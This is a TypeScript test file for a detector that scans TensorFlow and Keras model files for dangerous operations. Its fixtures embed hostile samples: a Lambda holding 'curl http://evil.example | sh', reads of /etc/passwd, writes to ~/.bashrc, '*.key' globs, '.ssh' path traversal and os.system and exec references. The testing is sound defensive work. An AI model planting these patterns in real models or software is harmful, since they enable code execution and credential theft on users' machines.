import { readFileSync } from "node:fs";

import { binarySource, runDetector } from "@watchtower/tester";
import type { ReportDescriptor } from "@watchtower/types";
import { atLeast, docsUrlFor } from "@watchtower/types";
import { describe, expect, it } from "vitest";

import { detector } from "../src/index.js";
import {
  benignKerasMetadata,
  benignSavedModelGraph,
  constString,
  constWeights,
  encodeGraphDef,
  encodeKerasMetadata,
  encodeSavedModel,
  fakeMarshalledLambda,
  graphDef,
  node,
  strAttr,
} from "./fixtures/build.js";

const run = (path: string, bytes: Uint8Array) => runDetector(detector, binarySource(path, bytes, "protobuf"));
const sev = (r: ReportDescriptor) => r.severity ?? detector.meta.rules.find((m) => m.id === r.ruleId)!.defaultSeverity;
const mediumPlus = (rs: ReportDescriptor[]) => rs.filter((r) => atLeast(sev(r), "medium"));
const member = (r: ReportDescriptor) => (r.at.kind === "binary" ? r.at.member : undefined);

describe("benign controls", () => {
  it("a Dense/Conv SavedModel with checkpoint plumbing reports nothing", async () => {
    const rec = await run("model/saved_model.pb", encodeSavedModel([{ graph: benignSavedModelGraph() }]));
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("a frozen graph with weights reports nothing", async () => {
    const g = graphDef([
      node("input", "Placeholder"),
      constWeights("w", new Uint8Array(4 * 64), [8, 8]),
      node("MatMul", "MatMul", ["input", "w"]),
      node("Relu", "Relu", ["MatMul"]),
    ]);
    const rec = await run("frozen_inference_graph.pb", encodeGraphDef(g));
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("benign keras_metadata.pb reports nothing at medium or above", async () => {
    const bytes = encodeKerasMetadata([{ path: "root", identifier: "_tf_keras_sequential", metadata: benignKerasMetadata() }]);
    const rec = await run("model/keras_metadata.pb", bytes);
    expect(mediumPlus(rec.reports)).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("function calls, internal ops, XLA ops and add-on ops are not medium", async () => {
    const g = graphDef(
      [
        node("call", "my_function_abc"),
        node("arg", "_Arg"),
        node("xla", "XlaCallModule"),
        node("sp", "SentencepieceOp"),
        node("tt", "TFText>WhitespaceTokenizeWithOffsetsV2"),
      ],
      [{ name: "my_function_abc", nodes: [node("m", "MatMul")] }],
    );
    const rec = await run("graph.pb", encodeGraphDef(g));
    expect(mediumPlus(rec.reports)).toEqual([]);
    expect(rec.reports.map((r) => [r.ruleId, r.severity, r.evidence])).toEqual([
      ["tensorflow/unknown-op", "low", "SentencepieceOp"],
      ["tensorflow/unknown-op", "low", "TFText>WhitespaceTokenizeWithOffsetsV2"],
    ]);
  });
});

describe("dangerous ops", () => {
  it("ReadFile with a constant path is high and names the path", async () => {
    const g = graphDef([constString("path", "/etc/passwd"), node("read", "ReadFile", ["path"]), node("Identity", "Identity", ["read"])]);
    const rec = await run("model/saved_model.pb", encodeSavedModel([{ graph: g }]));
    expect(rec.reports).toHaveLength(1);
    const r = rec.reports[0]!;
    expect(r.ruleId).toBe("tensorflow/file-io-op");
    expect(sev(r)).toBe("high");
    expect(r.evidence).toBe("ReadFile");
    expect(r.message).toContain("/etc/passwd");
    expect(member(r)).toBe("meta_graph[0](serve)/read");
  });

  it("WriteFile hidden in a library function is high, located in the function", async () => {
    const benign = benignSavedModelGraph() as { library: { function: unknown[] } };
    benign.library.function.push({
      signature: { name: "__inference_hidden_9" },
      nodeDef: [constString("p", "~/.bashrc"), node("c", "Const"), node("w", "WriteFile", ["p:output:0", "c:output:0"])],
    });
    const rec = await run("model/saved_model.pb", encodeSavedModel([{ graph: benign }]));
    expect(rec.reports.map((r) => [r.ruleId, sev(r), member(r)])).toEqual([
      ["tensorflow/file-io-op", "high", "meta_graph[0](serve)/function:__inference_hidden_9/w"],
    ]);
    expect(rec.reports[0]!.message).toContain("~/.bashrc");
  });

  it.each(["PyFunc", "PyFuncStateless", "EagerPyFunc", "PyCall"])("%s is critical", async (op) => {
    const g = graphDef([node("py", op, [], { token: strAttr("pyfunc_0") })]);
    const rec = await run("frozen.pb", encodeGraphDef(g));
    expect(rec.reports.map((r) => [r.ruleId, sev(r), r.evidence])).toEqual([["tensorflow/python-function-op", "critical", op]]);
    expect(rec.reports[0]!.message).toContain("pyfunc_0");
  });

  it("MatchingFiles is medium, ShellExecute critical, unknown ops medium", async () => {
    const g = graphDef([
      constString("glob", "*.key"),
      node("ls", "MatchingFiles", ["glob"]),
      node("sh", "ShellExecute"),
      node("custom", "MyCustomKernel"),
      node("custom2", "MyCustomKernel"),
    ]);
    const rec = await run("graph.pb", encodeGraphDef(g));
    expect(rec.reports.map((r) => [r.ruleId, sev(r), r.evidence])).toEqual([
      ["tensorflow/file-io-op", "medium", "MatchingFiles"],
      ["tensorflow/unsafe-op", "critical", "ShellExecute"],
      ["tensorflow/unknown-op", "medium", "MyCustomKernel"],
      ["tensorflow/unknown-op", "medium", "MyCustomKernel"],
    ]);
    // Same op → same identity, so core merges the two nodes into one finding with two locations.
    expect(rec.reports[2]!.identity).toBe(rec.reports[3]!.identity);
  });

  it("checkpoint ops are silent unless their constant path leaves the model", async () => {
    const g = graphDef([
      constString("inside", "variables/variables"),
      node("save_ok", "SaveV2", ["inside"]),
      constString("outside", "/tmp/drop/ckpt"),
      node("save_bad", "SaveV2", ["outside"]),
      constString("up", "../../.ssh/x"),
      node("restore_bad", "RestoreV2", ["up"]),
    ]);
    const rec = await run("graph.pb", encodeGraphDef(g));
    expect(rec.reports.map((r) => [r.evidence, sev(r), member(r)])).toEqual([
      ["SaveV2", "medium", "graph/save_bad"],
      ["RestoreV2", "medium", "graph/restore_bad"],
    ]);
  });

  it("attribute sinks: PrintV2 to a file, tfdbg to grpc, descriptor files", async () => {
    const g = graphDef([
      node("print_ok", "PrintV2", [], { output_stream: strAttr("stderr") }),
      node("print_file", "PrintV2", [], { output_stream: strAttr("file:///tmp/leak.txt") }),
      node("dbg_ok", "DebugIdentity"),
      node("dbg", "DebugIdentity", [], { debug_urls: { list: { s: [new TextEncoder().encode("grpc://evil:6064")] } } }),
      node("proto", "DecodeProtoV2", [], { descriptor_source: strAttr("/etc/descriptors.bin") }),
      node("abort", "Abort"),
    ]);
    const rec = await run("graph.pb", encodeGraphDef(g));
    expect(rec.reports.map((r) => [r.ruleId, sev(r), member(r)])).toEqual([
      ["tensorflow/file-io-op", "medium", "graph/print_file"],
      ["tensorflow/unsafe-op", "medium", "graph/dbg"],
      ["tensorflow/file-io-op", "medium", "graph/proto"],
      ["tensorflow/unsafe-op", "medium", "graph/abort"],
    ]);
  });

  it("caps the reports for one op in a huge graph and says so", async () => {
    const nodes = Array.from({ length: 60 }, (_, i) => node(`n${i}`, "EvilOp"));
    const rec = await run("graph.pb", encodeGraphDef(graphDef(nodes)));
    expect(rec.reports).toHaveLength(25);
    expect(rec.notes.join("\n")).toContain("35 more occurrence(s)");
  });

  it("a .meta MetaGraphDef is scanned", async () => {
    // A MetaGraphDef is the body of SavedModel.meta_graphs[0]; cut it out of an encoded SavedModel.
    const sm = encodeSavedModel([{ graph: graphDef([node("py", "PyFunc")]) }]);
    // SavedModel = field1 varint (0x08 0x01) then field 2 (0x12) + varint length + MetaGraphDef.
    let i = 3;
    let len = 0;
    let shift = 0;
    for (;;) {
      const b = sm[i++]!;
      len |= (b & 0x7f) << shift;
      shift += 7;
      if (b < 0x80) break;
    }
    const rec = await run("model.ckpt.meta", sm.subarray(i, i + len));
    expect(rec.reports.map((r) => [r.ruleId, member(r)])).toEqual([["tensorflow/python-function-op", "meta_graph/py"]]);
  });
});

describe("keras metadata", () => {
  const lambdaLayer = (code: string) => ({
    class_name: "Lambda",
    config: { name: "lambda", function: [code, null, null], function_type: "lambda", module: "__main__", output_shape: null },
  });
  const model = (layer: unknown) => ({ class_name: "Functional", config: { name: "model", layers: [layer] } });

  it("Lambda whose bytecode calls os.system is critical", async () => {
    const code = fakeMarshalledLambda(["os", "system"], ["curl http://evil.example | sh"]);
    const bytes = encodeKerasMetadata([{ path: "root", identifier: "_tf_keras_network", metadata: model(lambdaLayer(code)) }]);
    const rec = await run("m/keras_metadata.pb", bytes);
    expect(rec.reports.map((r) => [r.ruleId, sev(r)])).toEqual([["tensorflow/keras-metadata-lambda", "critical"]]);
    expect(rec.reports[0]!.message).toContain("os");
    expect(member(rec.reports[0]!)).toBe("root/config.layers[0]");
  });

  it("a plain Lambda is high (as in .h5 and .keras files), an opaque one high too", async () => {
    const plain = encodeKerasMetadata([
      { path: "root.layer-1", identifier: "_tf_keras_layer", metadata: lambdaLayer(fakeMarshalledLambda(["tf", "reduce_mean"])) },
    ]);
    expect((await run("keras_metadata.pb", plain)).reports.map(sev)).toEqual(["high"]);
    const opaque = encodeKerasMetadata([{ path: "root.layer-1", identifier: "_tf_keras_layer", metadata: lambdaLayer("!!not base64!!") }]);
    expect((await run("keras_metadata.pb", opaque)).reports.map(sev)).toEqual(["high"]);
  });

  it("Keras 3 __lambda__ code and module functions are read too", async () => {
    const k3 = {
      module: "keras.layers",
      class_name: "Lambda",
      config: { name: "l", function: { class_name: "__lambda__", config: { code: fakeMarshalledLambda(["__import__", "popen"]) } } },
    };
    const byModule = { class_name: "Lambda", config: { name: "l2", function: "system", function_type: "function", module: "os" } };
    const bytes = encodeKerasMetadata([
      { path: "a", identifier: "_tf_keras_layer", metadata: k3 },
      { path: "b", identifier: "_tf_keras_layer", metadata: byModule },
    ]);
    const rec = await run("keras_metadata.pb", bytes);
    expect(rec.reports.map((r) => [r.ruleId, sev(r), r.evidence])).toEqual([
      ["tensorflow/keras-metadata-lambda", "critical", "Lambda: __import__, popen"],
      ["tensorflow/keras-metadata-lambda", "critical", "Lambda: os.system"],
    ]);
  });

  it("nested module references outside Keras are reported by root", async () => {
    const meta = {
      class_name: "Sequential",
      config: {
        layers: [
          {
            class_name: "Dense",
            config: { kernel_initializer: { module: "builtins", class_name: "exec", config: {} }, kernel_regularizer: { module: "mylib.reg", class_name: "R" } },
          },
        ],
      },
    };
    const rec = await run("keras_metadata.pb", encodeKerasMetadata([{ path: "root", identifier: "_tf_keras_sequential", metadata: meta }]));
    expect(rec.reports.map((r) => [r.ruleId, sev(r), r.evidence])).toEqual([
      ["tensorflow/keras-metadata-unsafe-module", "critical", "builtins.exec"],
      ["tensorflow/keras-metadata-unsafe-module", "medium", "mylib.reg.R"],
    ]);
  });

  it("Keras metadata inside saved_model.pb's object graph is walked", async () => {
    const code = fakeMarshalledLambda(["subprocess", "check_output"]);
    const bytes = encodeSavedModel([
      {
        graph: benignSavedModelGraph(),
        kerasObjects: [{ identifier: "_tf_keras_layer", metadata: JSON.stringify({ class_name: "Lambda", config: { name: "x", function: [code, null, null], function_type: "lambda" } }) }],
      },
    ]);
    const rec = await run("saved_model.pb", bytes);
    expect(rec.reports.map((r) => [r.ruleId, sev(r), member(r)])).toEqual([
      ["tensorflow/keras-metadata-lambda", "critical", "meta_graph[0](serve)/object_graph/node[0]"],
    ]);
  });

  it("invalid metadata JSON is incomplete", async () => {
    const t = encodeKerasMetadata([{ path: "root", identifier: "_tf_keras_layer", metadata: {} }]);
    // Replace the JSON "{}" with "{x" in place (same length).
    const bytes = Uint8Array.from(t);
    const at = bytes.lastIndexOf(0x7d);
    bytes[at] = 0x78;
    const rec = await run("keras_metadata.pb", bytes);
    expect(rec.incompletes).toHaveLength(1);
  });
});

describe("fail closed", () => {
  it("a truncated SavedModel is incomplete", async () => {
    const full = encodeSavedModel([{ graph: benignSavedModelGraph() }]);
    const rec = await run("saved_model.pb", full.subarray(0, Math.floor(full.length / 2)));
    expect(rec.incompletes).toHaveLength(1);
    expect(rec.incompletes[0]!.details).toMatch(/truncated|corrupt/);
  });

  it("garbage and empty files are incomplete", async () => {
    expect((await run("graph.pb", Uint8Array.from([0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f, 1, 2]))).incompletes).toHaveLength(1);
    expect((await run("saved_model.pb", new Uint8Array(0))).incompletes).toHaveLength(1);
    expect((await run("graph.pb", Uint8Array.from([0x0f, 0x0f]))).incompletes).toHaveLength(1);
  });

  it("SavedModel side files (fingerprint.pb, tfhub_module.pb) are not graphs", async () => {
    // FingerprintDef: five uint64 hashes (fields 1-5) and a VersionDef; ModuleDef: format = 1.
    const fingerprint = Uint8Array.from([0x08, 0xd2, 0x09, 0x10, 0xb1, 0x0a, 0x18, 0x01, 0x20, 0x02, 0x28, 0x03, 0x32, 0x02, 0x08, 0x01]);
    for (const [name, bytes] of [["m/fingerprint.pb", fingerprint], ["m/tfhub_module.pb", Uint8Array.from([0x08, 0x01])]] as const) {
      const rec = await run(name, bytes);
      expect(rec.reports).toEqual([]);
      expect(rec.incompletes).toEqual([]);
      expect(rec.notes).toHaveLength(1);
    }
  });

  it("ignores non-protobuf sources", async () => {
    const rec = await runDetector(detector, binarySource("x.pkl", Uint8Array.from([0x80, 4]), "pickle"));
    expect(rec).toEqual({ reports: [], skips: [], incompletes: [], notes: [] });
  });
});

describe("package hygiene", () => {
  const readme = readFileSync(new URL("../README.md", import.meta.url), "utf8");

  it("every rule has a README section, a docs URL and a unique id", () => {
    const ids = detector.meta.rules.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of detector.meta.rules) {
      expect(readme).toContain(`\n## ${r.id}\n`);
      expect(r.docsUrl).toBe(docsUrlFor("detector-tensorflow", r.id));
      expect(r.description.endsWith(".")).toBe(true);
    }
    expect(readme).toContain("\n## Dependencies\n");
  });

  it("index.ts loads protobufjs and the op list lazily", () => {
    const index = readFileSync(new URL("../src/index.ts", import.meta.url), "utf8");
    expect(index).not.toMatch(/^import .*(protobufjs|scan\.js|raw-ops)/m);
  });
});
